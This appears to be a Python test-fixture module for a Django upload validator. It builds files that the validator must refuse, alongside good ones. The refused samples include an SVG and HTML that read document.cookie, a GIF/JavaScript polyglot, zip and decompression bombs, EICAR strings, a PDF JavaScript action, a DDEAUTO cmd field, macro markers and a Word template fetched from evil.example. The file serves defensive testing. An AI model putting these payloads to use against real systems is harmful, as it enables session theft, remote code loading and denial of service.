"""Uploads that must be refused, made here byte by byte; and good ones beside them."""

from __future__ import annotations

import io
import struct
import zipfile
import zlib
from functools import cache
from typing import Any

from django.core.files.uploadedfile import SimpleUploadedFile
from docx import Document
from openpyxl import Workbook
from PIL import Image

from lianxin.foundation.files.threats import EICAR
from tests.foundation.files.file_makers import jpeg, pdf, png

SCRIPT = b"<script>alert(document.cookie)</script>"


def upload(data: bytes, name: str) -> SimpleUploadedFile:
    return SimpleUploadedFile(name, data, "application/octet-stream")


def word(**parts: bytes) -> bytes:
    """A small Word file; keyword ``word__vbaProject_bin`` adds the part ``word/vbaProject.bin``."""
    out = io.BytesIO()
    document = Document()
    document.add_paragraph("三年服务清单")
    document.save(out)
    return _with(out.getvalue(), {key.replace("__", "/").replace("_bin", ".bin"): v for key, v in parts.items()})


def excel() -> bytes:
    out = io.BytesIO()
    book = Workbook()
    book.active["A1"] = "收支"
    book.save(out)
    return out.getvalue()


def _with(data: bytes, parts: dict[str, bytes]) -> bytes:
    out = io.BytesIO(data)
    with zipfile.ZipFile(out, "a", zipfile.ZIP_DEFLATED) as archive:
        for name, content in parts.items():
            archive.writestr(name, content)
    return out.getvalue()


def _changed(data: bytes, part: str, old: bytes, new: bytes) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(data)) as source, zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as target:
        for item in source.infolist():
            content = source.read(item)
            target.writestr(item.filename, content.replace(old, new) if item.filename == part else content)
    return out.getvalue()


def zip_of(parts: dict[str, bytes]) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, content in parts.items():
            archive.writestr(name, content)
    return out.getvalue()


def lying_bomb() -> bytes:
    """A Word file whose directory claims ten bytes for a part of 130 MB of zeros."""
    data = word(word__fill=b"\0" * 130_000_000)
    size = struct.pack("<I", 130_000_000)
    assert size in data
    return data.replace(size, struct.pack("<I", 10))


def huge_png() -> bytes:
    """30,000 × 30,000 pixels in a few hundred bytes."""

    def chunk(kind: bytes, data: bytes) -> bytes:
        return struct.pack("!I", len(data)) + kind + data + struct.pack("!I", zlib.crc32(kind + data))

    head = struct.pack("!IIBBBBB", 30_000, 30_000, 1, 0, 0, 0, 0)
    return (
        b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", head) + chunk(b"IDAT", zlib.compress(b"\0" * 4000)) + chunk(b"IEND", b"")
    )


def gif_script() -> bytes:
    """A GIF that is a comment and an assignment when it is run as a script."""
    out = io.BytesIO()
    Image.new("P", (8, 8)).save(out, "GIF")
    data = bytearray(out.getvalue())
    data[6:8] = b"/*"
    return bytes(data) + b"*/=1;alert(1)"


def encrypted() -> bytes:
    """As Word writes it with a password: a compound file with the stream EncryptedPackage."""
    return b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 1000 + "EncryptedPackage".encode("utf-16-le") + b"\0" * 500


@cache
def pictures() -> dict[str, tuple[bytes, str, str]]:
    """What no picture may be: content, name, a word of the refusal. Made when it is wanted."""
    return {
        "svg with script": (b'<svg xmlns="http://www.w3.org/2000/svg">' + SCRIPT + b"</svg>", "图.svg", "SVG"),
        "svg with a false name": (b'<?xml version="1.0"?><svg onload="x()"/>', "图.png", "SVG"),
        "page with a false name": (b"<!doctype html>" + SCRIPT, "图.jpg", "网页"),
        "program": (b"MZ\x90\0" + b"\0" * 200, "图.png", "可执行程序"),
        "nothing in it": (b"", "图.jpg", "空的"),
        "cut off": (jpeg()[:900], "图.jpg", "损坏"),
        "decompression bomb": (huge_png(), "图.png", "像素太多"),
        "picture and script": (gif_script(), "图.gif", "脚本"),
        "picture and page": (png() + b"<html>" + SCRIPT, "图.png", "脚本"),
        "picture and archive": (jpeg() + zip_of({"a.html": SCRIPT}), "图.jpg", "压缩包"),
        "test string": (EICAR, "图.png", "病毒"),
        "test string in a picture": (jpeg() + EICAR, "图.jpg", "病毒"),
        "pdf as a picture": (pdf(), "图.jpg", "只收图片"),
        "too large": (b"\xff\xd8\xff" + b"\0" * (21 * 1024 * 1024), "图.jpg", "太大"),
    }


def _with_something_inside() -> dict[str, tuple[bytes, str, str]]:
    return {
        "old office": (b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 600, "表.doc", "旧版"),
        "with a password": (encrypted(), "表.docx", "密码"),
        "embedded object": (word(word__embeddings__oleObject1_bin=b"x"), "表.docx", "嵌入"),
        "template from outside": (
            _with(
                word(),
                {
                    "word/_rels/settings.xml.rels": b'<Relationships><Relationship Id="r" TargetMode="External" '
                    b'Target="http://evil.example/t.dotm" Type="http://x/relationships/attachedTemplate"/></Relationships>'
                },
            ),
            "表.docx",
            "网上",
        ),
        "command field": (
            _changed(word(), "word/document.xml", "三年".encode(), b"DDEAUTO cmd "),
            "表.docx",
            "指令",
        ),
        "zip bomb": (word(word__fill=b"\0" * 310_000_000), "表.docx", "展开后太大"),
        "zip bomb that lies": (lying_bomb(), "表.docx", "损坏"),
        "test string in a part": (word(word__note=EICAR), "表.docx", "病毒"),
        "page before": (SCRIPT + word(), "表.docx", "认不出|网页"),
        "page behind": (word() + SCRIPT, "表.docx", "夹带"),
        "picture as a document": (jpeg(), "表.pdf", "图片"),
        "too large": (b"%PDF-1.7" + b"\0" * (21 * 1024 * 1024), "表.pdf", "太大"),
    }


@cache
def documents() -> dict[str, tuple[bytes, str, str]]:
    """The same for documents; the largest have hundreds of megabytes behind them."""
    return _with_something_inside() | {
        "page with a false name": (b"<html>" + SCRIPT, "表.pdf", "网页"),
        "program": (b"\x7fELF" + b"\0" * 200, "表.docx", "可执行程序"),
        "nothing in it": (b"", "表.pdf", "空的"),
        "cut off pdf": (pdf()[:-20], "表.pdf", "不完整"),
        "pdf with a script": (pdf(catalog=b"/OpenAction << /S /JavaScript /JS (x) >>"), "表.pdf", "脚本"),
        "pdf and page": (pdf(after=b"\n" + SCRIPT), "表.pdf", "脚本"),
        "pdf and archive": (pdf(after=zip_of({"a": b"x"})), "表.pdf", "压缩包"),
        "archive": (zip_of({"a.txt": b"x"}), "表.docx", "压缩包"),
        "cut off word": (word()[:-200], "表.docx", "损坏"),
        "macro beside": (word(word__vbaProject_bin=b"\xd0\xcf"), "表.docx", "宏"),
        "macro by type": (
            _changed(
                word(), "[Content_Types].xml", b"wordprocessingml.document.main+xml", b"word.macroEnabled.main+xml"
            ),
            "表.docx",
            "宏",
        ),
    }


GOOD: dict[str, tuple[Any, str]] = {"pdf": (pdf, "表.pdf"), "docx": (word, "表.docx"), "xlsx": (excel, "表.xlsx")}
